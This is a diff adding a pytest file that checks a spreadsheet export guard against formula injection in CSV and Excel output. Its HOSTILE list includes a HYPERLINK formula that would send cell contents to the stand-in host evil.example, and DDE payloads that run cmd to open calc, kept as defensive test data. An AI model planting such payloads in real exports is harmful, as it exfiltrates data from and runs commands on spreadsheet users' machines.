@@ -1,0 +1,61 @@
+"""The spreadsheet guard: text that a spreadsheet could run as a formula is written as text, everywhere."""
+from __future__ import annotations
+
+import csv
+import io
+import re
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from app.config import ROOT
+from app.workflow.core import spreadsheets
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1;"Avaa")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
+           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_text_that_could_run_is_guarded(text):
+    assert spreadsheets.runs_as_formula(text)
+    assert spreadsheets.csv_cell(text) == "'" + text
+    assert spreadsheets.from_csv_cell(spreadsheets.csv_cell(text)) == text
+
+
+@pytest.mark.parametrize("value", ["Kuopio", "297", "-12,5", "+3", "-7", "0,1234", "", " =1+1", "'=1", 12, -3, 0.5, None])
+def test_plain_text_and_numbers_are_left_alone(value):
+    assert not spreadsheets.runs_as_formula(value)
+    assert spreadsheets.csv_cell(value) == value
+
+
+def test_csv_writer_guards_every_text_cell_and_keeps_numbers():
+    buffer = io.StringIO()
+    writer = spreadsheets.CsvWriter(buffer, delimiter=";")
+    writer.writerow(["=1+1", -3, "-12,5", "Kuopio"])
+    writer.writerows([["@SUM(A1)", 4]])
+    rows = list(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))
+    assert rows == [["'=1+1", "-3", "-12,5", "Kuopio"], ["'@SUM(A1)", "4"]]
+
+
+def test_excel_keeps_the_text_as_typed_stored_as_text():
+    frame = pd.DataFrame({"Ote": HOSTILE, "Raportteja": range(len(HOSTILE))})
+    book = openpyxl.load_workbook(io.BytesIO(spreadsheets.frames_to_xlsx({"=Taulu": frame})))
+    sheet = book["=Taulu"]
+    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+    assert [cell.value for cell in cells] == [text.replace("\r", "\n") for text in HOSTILE]  # XML reads CR as LF
+    assert {cell.data_type for cell in cells} == {"s"} and all(cell.quotePrefix for cell in cells)
+    assert [row[1].value for row in sheet.iter_rows(min_row=2)] == list(range(len(HOSTILE)))
+    assert {row[1].data_type for row in sheet.iter_rows(min_row=2)} == {"n"}
+
+
+WRITERS = re.compile(r"\bcsv\.(writer|DictWriter)\(|\.to_excel\(|\bExcelWriter\b|\bopenpyxl\b|\bxlsxwriter\b")
+
+
+def test_every_csv_and_excel_file_is_written_through_the_guard():
+    """A new export that writes CSV or Excel itself would skip the guard: it must use app/workflow/core/spreadsheets.py."""
+    guard = ROOT / "app" / "workflow" / "core" / "spreadsheets.py"
+    offenders = [f"{path.relative_to(ROOT)}:{number}" for path in sorted((ROOT / "app").rglob("*.py")) if path != guard
+                 for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
+                 if WRITERS.search(line)]
+    assert offenders == []
